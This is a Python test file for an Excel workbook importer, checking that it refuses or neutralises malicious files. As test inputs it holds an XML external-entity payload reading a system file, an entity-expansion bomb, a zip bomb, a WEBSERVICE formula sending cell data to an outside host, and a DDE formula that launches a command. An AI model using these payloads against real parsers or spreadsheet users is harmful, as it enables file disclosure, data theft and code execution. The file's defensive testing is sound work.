"""Whether a workbook made to harm is refused with a clear message, or read without doing what it asks for."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook
from workbooks import change_parts, notice, refuse, set_cells, tell, write_book

from runners.commands.exchange import run_import
from runners.exchange import reading, scanning

SHEET = "xl/worksheets/sheet3.xml"
STYLES = "xl/styles.xml"
DOCTYPE = b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/hostname">]>\n'
BILLION = b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>\n'
ENTITIES = (
    "case.xlsx: the workbook has a document type or entities, which real workbooks never have and which can read other "
    "files. It is not read. Copy the sheets to a new workbook."
)


def prefix(text: bytes) -> Callable[[bytes], bytes]:
    return lambda part: text + part.partition(b"?>")[2]


def add_to_sheet(text: bytes, before: bytes = b"</worksheet>") -> Callable[[bytes], bytes]:
    return lambda part: part.replace(before, text + before, 1)


@pytest.mark.parametrize("doctype", [DOCTYPE, BILLION], ids=["external", "billion"])
@pytest.mark.parametrize(
    "part", [SHEET, STYLES, "xl/sharedStrings.xml", "xl/_rels/workbook.xml.rels", "docProps/core.xml"]
)
def test_entities_are_refused_in_every_part(tmp_path: Path, part: str, doctype: bytes) -> None:
    assert tell(change_parts(write_book(tmp_path / "case.xlsx"), {part: prefix(doctype)})) == [ENTITIES]


def test_entities_are_refused_in_any_encoding(tmp_path: Path) -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><worksheet/>'
    assert tell(change_parts(write_book(tmp_path / "case.xlsx"), {SHEET: text.encode("utf-16")})) == [ENTITIES]


def test_a_bomb_is_refused_before_it_is_unpacked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its sum counts, not its ratio: one part of noise, far below any ratio that would be suspicious."""
    monkeypatch.setattr(reading, "MOST_TOTAL_MB", 3)
    noise = bytes(range(256)) * 4096 * 3
    place = change_parts(write_book(tmp_path / "case.xlsx"), {"xl/media/image1.png": noise})
    assert tell(place) == [
        "case.xlsx: the workbook has 4 MB when unpacked; at most 3 MB are accepted. Remove pictures, sheets and "
        "formats that are not needed."
    ]


def test_a_container_that_lies_about_its_sizes_is_broken(tmp_path: Path) -> None:
    """The directory says 10 bytes for a part of a megabyte: no more than 10 are ever unpacked."""
    place = write_book(tmp_path / "case.xlsx")
    with zipfile.ZipFile(place, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/extra.xml", b"<a>" + b" " * 2**20 + b"</a>")
    data = place.read_bytes()
    place.write_bytes(data.replace((2**20 + 7).to_bytes(4, "little"), (10).to_bytes(4, "little")))
    assert tell(place) == [
        "case.xlsx: the workbook is damaged and cannot be read (Bad CRC-32 for file 'xl/extra.xml'). Open it in Excel, "
        "let Excel repair it, and save it again."
    ]


CROWDS: dict[str, tuple[Callable[[bytes], bytes], str, str, int]] = {
    "rows": (
        lambda part: re.sub(
            b"<sheetData>.*</sheetData>", b"<sheetData>" + b"<row/>" * 60 + b"</sheetData>", part, flags=re.S
        ),
        "MOST_ROWS",
        "case.xlsx: the workbook has 51 rows or more; at most 50 are accepted. Remove blank rows with formats, and "
        "sheets that are not needed.",
        50,
    ),
    "rows of all sheets": (
        lambda part: re.sub(
            b"<sheetData>.*</sheetData>", b"<sheetData>" + b"<row/>" * 190 + b"</sheetData>", part, flags=re.S
        ),
        "MOST_ROWS",
        "case.xlsx: the workbook has {found} rows or more; at most 200 are accepted. Remove blank rows with formats, "
        "and sheets that are not needed.",
        200,
    ),
    "a cell far to the right": (
        lambda part: re.sub(
            b"<sheetData>.*</sheetData>", b'<sheetData><row r="1"><c r="XFD1"/></row></sheetData>', part, flags=re.S
        ),
        "MOST_CELLS",
        "case.xlsx: the workbook has 16384 cells or more; at most 9000 are accepted. Remove formats outside the "
        "tables, and sheets that are not needed.",
        9000,
    ),
    "a merged range of the whole sheet": (
        add_to_sheet(
            b'<x:mergeCells xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<x:mergeCell ref="A1:XFD1048576"/></x:mergeCells>'
        ),
        "MOST_CELLS",
        "case.xlsx: the workbook has {found} cells or more; at most 1000000 are accepted. Remove formats outside the "
        "tables, and sheets that are not needed.",
        1_000_000,
    ),
    "a link of the whole sheet": (
        add_to_sheet(b'<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>'),
        "MOST_CELLS",
        "case.xlsx: the workbook has {found} cells or more; at most 1000000 are accepted. Remove formats outside the "
        "tables, and sheets that are not needed.",
        1_000_000,
    ),
}


@pytest.mark.parametrize("name", CROWDS)
def test_more_rows_or_cells_than_we_take_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    change, limit, text, most = CROWDS[name]
    monkeypatch.setattr(scanning, limit, most)
    monkeypatch.setattr(reading, limit, most)
    (told,) = tell(change_parts(write_book(tmp_path / "case.xlsx"), {SHEET: change}))
    found = re.search(r"(\d+) (rows|cells) or more", told)
    assert found is not None
    assert told == text.format(found=found[1])


@pytest.mark.parametrize(
    "rows",
    [
        b'<row r="2000000"/>',
        b'<row r="5"/><row r="5"/>',
        b'<row r="1"><c r="A7"/></row>',
        b'<row r="1"><c r="B1"/><c r="A1"/></row>',
    ],
    ids=["beyond the last", "twice", "elsewhere", "backward"],
)
def test_rows_and_cells_where_there_can_be_none_are_no_workbook(tmp_path: Path, rows: bytes) -> None:
    data = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
    (told,) = tell(change_parts(write_book(tmp_path / "case.xlsx"), {SHEET: data % rows}))
    assert told.startswith("case.xlsx: the workbook is damaged and cannot be read (")


FILES: dict[str, tuple[bytes, str]] = {
    "password": (
        reading._OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
        "case.xlsx: the workbook is protected with a password and cannot be read. Remove the password in Excel (File, "
        "Info, Protect Workbook) and save.",
    ),
    "old": (
        reading._OLE + b"\0" * 600,
        "case.xlsx: the file has the old format of Excel 97-2003. Open it and save it as an Excel workbook (.xlsx).",
    ),
    "text": (
        b"technology;value\n",
        "case.xlsx: the file is no Excel workbook, whatever its name. Save it as an Excel workbook (.xlsx).",
    ),
    "empty": (
        b"",
        "case.xlsx: the file is no Excel workbook, whatever its name. Save it as an Excel workbook (.xlsx).",
    ),
}


@pytest.mark.parametrize("name", FILES)
def test_a_file_that_is_no_workbook_is_told_so(tmp_path: Path, name: str) -> None:
    data, text = FILES[name]
    (tmp_path / "case.xlsx").write_bytes(data)
    assert tell(tmp_path / "case.xlsx") == [text]


def test_another_zip_and_half_a_workbook_are_told_so(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "case.xlsx", "w") as archive:
        archive.writestr("word/document.xml", "<document/>")
    assert tell(tmp_path / "case.xlsx") == [FILES["text"][1]]
    whole = write_book(tmp_path / "case.xlsx").read_bytes()
    (tmp_path / "case.xlsx").write_bytes(whole[: len(whole) // 2])
    assert tell(tmp_path / "case.xlsx") == [FILES["text"][1]]
    place = change_parts(write_book(tmp_path / "case.xlsx"), {SHEET: lambda part: part[:-40]})
    assert tell(place)[0].startswith("case.xlsx: the workbook is damaged and cannot be read (")
    place = change_parts(write_book(tmp_path / "case.xlsx"), {"[Content_Types].xml": None})
    assert tell(place)[0].startswith("case.xlsx: the workbook is damaged and cannot be read (")


def test_a_file_too_large_or_missing_is_not_opened(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "MOST_FILE_MB", 1)
    (tmp_path / "case.xlsx").write_bytes(b"\0" * (2**20 + 1))
    assert tell(tmp_path / "case.xlsx") == [
        "case.xlsx: the file has 2 MB; at most 1 MB are accepted. Remove pictures and sheets that do not belong to the "
        "case."
    ]
    assert tell(tmp_path / "none.xlsx") == [
        f"{tmp_path / 'none.xlsx'}: there is no such file. See to its name and folder."
    ]


def test_the_wrong_workbook_is_told_with_its_sheets(tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.active.title = "Budget"
    book.save(tmp_path / "case.xlsx")
    assert tell(tmp_path / "case.xlsx") == [
        "case.xlsx: no sheet is a table of a case; the sheets are Budget. Begin with a template: fardplan template "
        "case.xlsx."
    ]


@pytest.mark.slow
def test_macros_are_left_alone_and_links_not_followed(tmp_path: Path) -> None:
    """Both are told; the values are read, and neither comes along to the marked copy."""
    parts = {"xl/vbaProject.bin": b"Attribute VB_Name", "xl/externalLinks/externalLink1.xml": b"<externalLink/>"}
    place = change_parts(write_book(tmp_path / "case.xlsx", set_cells({"Prices!E2": "dear"})), dict(parts))
    assert notice(place) == ["exchange_macros", "exchange_links"]
    assert run_import([str(place), "--out", str(tmp_path / "case")], "en") == 2
    with zipfile.ZipFile(tmp_path / "case-problems.xlsx") as archive:
        assert not [name for name in archive.namelist() if "vba" in name or "external" in name]


@pytest.mark.slow
def test_formulas_are_not_run_and_do_not_come_along(tmp_path: Path) -> None:
    """Excel's saved value is read, whatever the formula is; texts like formulas stay texts in the marked copy."""
    evil = b'<c r="E2"><f>WEBSERVICE("http://example.org/"&amp;A1)</f><v>0.25</v></c>'

    def put(part: bytes) -> bytes:
        return re.sub(b'<c r="E2"[^>]*><v>[^<]*</v></c>', evil, part)

    place = write_book(tmp_path / "case.xlsx", set_cells({"Prices!E3": "dear", "Prices!I2": "'=1+1"}))
    book = load_workbook(place)
    book["Prices"]["I2"].value, book["Prices"]["I2"].data_type = "=cmd|' /C calc'!A0", "s"
    book.save(place)
    path = next(
        f"xl/worksheets/sheet{number}.xml" for number, name in enumerate(book.sheetnames, 1) if name == "Prices"
    )
    change_parts(place, {path: put})
    assert tell(place) == [
        "Prices row 3, column 'E (value)': 'dear' is no number. Write for example 1234.5 or 1.2e3, without spaces, "
        "units or thousands separators."
    ]
    assert notice(place) == ["exchange_formulas"]
    assert run_import([str(place), "--out", str(tmp_path / "case")], "en") == 2
    copy = load_workbook(tmp_path / "case-problems.xlsx")
    assert copy["Prices"]["E2"].value == 0.25
    assert (copy["Prices"]["I2"].value, copy["Prices"]["I2"].data_type) == ("=cmd|' /C calc'!A0", "s")
    assert not [c for sheet in copy.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.slow
def test_a_problem_that_looks_like_a_formula_is_text_in_the_list(tmp_path: Path) -> None:
    place = write_book(tmp_path / "case.xlsx", lambda book: setattr(book["Prices"], "title", "=Prices"))
    assert run_import([str(place), "--out", str(tmp_path / "case")], "en") == 2
    listed = load_workbook(tmp_path / "case-problems.xlsx")["Problems"]
    assert (listed["A2"].value, listed["A2"].data_type) == ("=Prices", "s")


def test_another_kind_of_file_is_refused_by_its_name(tmp_path: Path) -> None:
    assert refuse(["case.ods", "--out", str(tmp_path / "case")]) == [
        "case.ods: the file's name has to end with .xlsx, .xlsm, .xltx, .xltm. Rename it, or save the file as an Excel "
        "workbook."
    ]


@pytest.mark.slow
def test_without_defusedxml_nothing_is_read(tmp_path: Path) -> None:
    """openpyxl can be told by the environment to leave defusedxml out; then we stop, loudly."""
    place = write_book(tmp_path / "case.xlsx")
    code = "import sys, pathlib; from runners.exchange.reading import read_book; read_book(pathlib.Path(sys.argv[1]))"
    environment = {"OPENPYXL_DEFUSEDXML": "False", "PYTHONPATH": str(Path(__file__).parent.parent)}
    run = subprocess.run(
        [sys.executable, "-c", code, str(place)], env=environment, capture_output=True, text=True, check=False
    )
    assert "RuntimeError: openpyxl does not use defusedxml" in run.stderr


def test_a_book_is_read_from_memory_and_its_file_left_as_it_is(tmp_path: Path) -> None:
    place = write_book(tmp_path / "case.xlsx")
    before = place.read_bytes()
    assert reading.read_book(place).data == before
    assert load_workbook(io.BytesIO(before), read_only=True).sheetnames[0] == "Read me first"


def test_a_pipe_is_no_workbook_and_nobody_waits_for_it(tmp_path: Path) -> None:
    place = tmp_path / "pipe.xlsx"
    os.mkfifo(place)
    assert tell(place) == [f"{place}: is no ordinary file. Name a workbook, such as case.xlsx."]
